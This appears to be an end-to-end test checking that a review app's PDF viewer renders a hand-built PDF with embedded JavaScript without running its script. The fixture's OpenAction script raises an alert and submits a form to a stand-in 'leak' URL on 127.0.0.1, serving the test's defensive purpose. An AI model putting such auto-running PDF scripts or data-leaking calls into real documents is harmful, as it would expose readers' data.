/**
 * A PDF that carries JavaScript (an OpenAction and a document-level script that would raise
 * an alert and post to a URL) is shown as a page and its script never runs: pdf.js' scripting
 * is not loaded in the renderer, and the CSP would refuse eval and network anyway.
 */
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { startApp, type AppFixture } from './app-fixture.ts';
import { manifest as packageManifest, packageFiles } from '../helpers/package-builder.ts';
import { scoreOnePackage } from './ui-steps.ts';

/** A one-page PDF whose opening runs JavaScript, written by hand so nothing strips it. */
function pdfWithJavaScript(): Buffer {
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R /Names << /JavaScript << /Names [(boot) 5 0 R] >> >> >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 6 0 R /Resources << /Font << /F1 7 0 R >> >> >>',
    "<< /S /JavaScript /JS (app.alert\\('pdf-js-ran'\\); this.submitForm\\('http://127.0.0.1:9/leak'\\);) >>",
    "<< /S /JavaScript /JS (app.alert\\('pdf-names-js-ran'\\);) >>",
    null,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ];
  const content = 'BT /F1 24 Tf 40 100 Td (Scripted PDF) Tj ET';
  let body = '%PDF-1.7\n';
  const offsets: number[] = [];
  objects.forEach((object, i) => {
    offsets.push(Buffer.byteLength(body, 'latin1'));
    body +=
      object === null
        ? `${i + 1} 0 obj\n<< /Length ${content.length} >>\nstream\n${content}\nendstream\nendobj\n`
        : `${i + 1} 0 obj\n${object}\nendobj\n`;
  });
  const xref = Buffer.byteLength(body, 'latin1');
  body += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`).join('')}`;
  body += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(body, 'latin1');
}

describe('a PDF with embedded JavaScript', () => {
  let app: AppFixture;
  let work: string;
  beforeEach(async () => {
    app = await startApp();
    work = mkdtempSync(join(tmpdir(), 'alliance-review-pdfjs-'));
  });
  afterEach(async () => {
    await app.close();
    rmSync(work, { recursive: true, force: true });
  });

  it('is drawn, and its script never runs', async () => {
    const { page } = app;
    const dialogs: string[] = [];
    const requests: string[] = [];
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    page.on('request', (request) => requests.push(request.url()));
    const manifest = packageManifest({ claims: { 'I1.office': { claimed: true, evidence: ['制度建设/带脚本的文件.pdf'] } } });
    const zip = await packageFiles({
      'manifest.json': JSON.stringify(manifest),
      '自查报告.pdf': pdfWithJavaScript(),
      '制度建设/带脚本的文件.pdf': pdfWithJavaScript(),
    }).writeZip(join(work, '脚本.zip'));
    await scoreOnePackage(page, zip, { name: '李华', id: 'E02', passphrase: 'passphrase-2027' });

    const body = page.getByTestId('evidence-body');
    await body.locator('[data-page="1"] canvas[data-rendered="true"]').waitFor({ timeout: 30_000 });
    // Give a script every chance it would have had: the page has been drawn, and the viewer idles.
    await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve, 300))));
    expect(dialogs).toEqual([]);
    expect(requests.filter((url) => url.includes('127.0.0.1:9'))).toEqual([]);
    expect(await page.evaluate(() => Object.keys(window).filter((k) => /pdfjsScripting|pdfjsSandbox/i.test(k)))).toEqual([]);
  });
});
